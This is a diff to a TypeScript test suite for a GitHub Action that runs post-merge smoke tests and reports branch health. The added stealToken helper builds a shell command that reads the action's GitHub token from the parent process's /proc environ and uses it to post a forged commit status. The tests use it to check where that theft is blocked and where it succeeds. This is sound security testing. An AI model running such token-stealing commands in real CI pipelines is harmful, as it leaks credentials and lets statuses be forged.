@@ -76,12 +76,26 @@ function reportJob(w: World, command: string) {
   );
 }
 
+/**
+ * A malicious smoke: it reads the action's token from its parent's environment (the scrubbed environment it
+ * was given is no boundary) and posts a commit status with it, context `forged`.
+ */
+function stealToken(state: string): string {
+  return [
+    `tok=$(tr '\\0' '\\n' < /proc/$PPID/environ | sed -n 's/^INPUT_GITHUB-TOKEN=//p')`,
+    `node -e 'fetch(process.env.GITHUB_API_URL + "/repos/octo/repo/statuses/" + process.env.SMOKE_MERGE_COMMIT, ` +
+      `{ method: "POST", headers: { authorization: "token " + process.argv[1] }, ` +
+      `body: JSON.stringify({ state: "${state}", context: "forged" }) })` +
+      `.then((r) => console.log("stolen token: HTTP " + r.status))' "$tok"`,
+  ].join('\n');
+}
+
 describe('the built action: main health', () => {
   it('two jobs: the run job writes nothing, the report job reports a red streak and its recovery', async () => {
     const h = await healthWorld('Break the widget (#5)');
     world = h.world;
     const marker = join(world.scratch, 'smoke-ran');
-    const failing = `echo $$ >> ${sq(marker)}; echo 'widget answers 500' >&2; exit 4`;
+    const failing = `echo $$ >> ${sq(marker)}\n${stealToken('success')}\necho 'widget answers 500' >&2; exit 4`;
 
     const run = await runJob(world, failing);
     expect([run.exitCode, describeRun(run)]).toEqual([1, expect.any(String)]);
@@ -95,7 +109,12 @@ describe('the built action: main health', () => {
       escalation_issue: 'skipped: report is false (the report job reports)',
       result_artifact: expect.stringMatching(new RegExp(`^uploaded: ${name} \\(id \\d+\\)$`)),
     });
-    expect(writes(world, RUN_TOKEN)).toEqual([]);
+    // The action wrote nothing; the smoke did get the token — and the API refused its write.
+    expect(writes(world, RUN_TOKEN).map((r) => r.headers['user-agent'])).toEqual([
+      expect.not.stringContaining('post-merge-smoke'),
+    ]);
+    expect(handed.stdout).toContain('stolen token: HTTP 403');
+    expect(h.state.statuses).toEqual([]);
     expect([...world.artifacts.uploads.keys()]).toEqual([name]);
     const handover = readZip(world.artifacts.uploads.get(name)!);
     expect([...handover.keys()].sort()).toEqual(['smoke-result.json', 'stderr.log', 'stdout.log']);
@@ -157,14 +176,17 @@ describe('the built action: main health', () => {
     expect(h.state.issues[0]!.state).toBe('closed');
     expect(h.state.issues[0]!.comments.at(-1)).toContain(world.mergeCommit.slice(0, 7));
     expect(green.summary).toMatch(/Green ref.*green.*at <a href="[^"]+"><code>[0-9a-f]{7}<\/code><\/a>/);
-    expect(writes(world, RUN_TOKEN)).toEqual([]);
+    expect(h.state.statuses.every((s) => s.token === TEST_TOKEN)).toBe(true);
   });
 
   it('one job keeps working: it smokes and does the main-health reporting itself', async () => {
     const h = await healthWorld('Add the widget (#7)');
     world = h.world;
-    const run = await runAction(actionEnv(world, { inputs: { 'smoke-command': 'true', ...HEALTH } }));
+    const command = stealToken('success');
+    const run = await runAction(actionEnv(world, { inputs: { 'smoke-command': command, ...HEALTH } }));
     expect([run.exitCode, describeRun(run)]).toEqual([0, expect.any(String)]);
+    // What the README says: in one job the smoke can reach the job's token, and write with it.
+    expect(run.stdout).toContain('stolen token: HTTP 201');
     const result = checkedResult(run);
     expect(result).toMatchObject({ mode: 'run', status: 'PASS', green_sha: world.mergeCommit });
     expect(result.reporting).toMatchObject({
@@ -173,7 +195,11 @@ describe('the built action: main health', () => {
       result_artifact: 'skipped: report is true (this job reports)',
     });
     expect(run.outputs['green-sha']).toBe(world.mergeCommit);
-    expect(h.state.statuses.map((s) => s.state)).toEqual(['pending', 'success']);
+    expect(h.state.statuses.map((s) => [s.context, s.state])).toEqual([
+      ['post-merge-smoke', 'pending'],
+      ['forged', 'success'],
+      ['post-merge-smoke', 'success'],
+    ]);
     expect(world.artifacts.uploads.size).toBe(0);
   });
 
@@ -194,6 +220,8 @@ describe('the built action: main health', () => {
     );
     expect(h.state.statuses.map((s) => s.state)).toEqual(['error']);
     expect(h.state.issues).toHaveLength(1);
-    expect(readFileSync(join(world.runnerDir, 'step-summary.md'), 'utf8')).toMatch(/No result artifact post-merge-smoke-result-/);
+    expect(readFileSync(join(world.runnerDir, 'step-summary.md'), 'utf8')).toMatch(
+      /No result artifact post-merge-smoke-result-/,
+    );
   });
 });
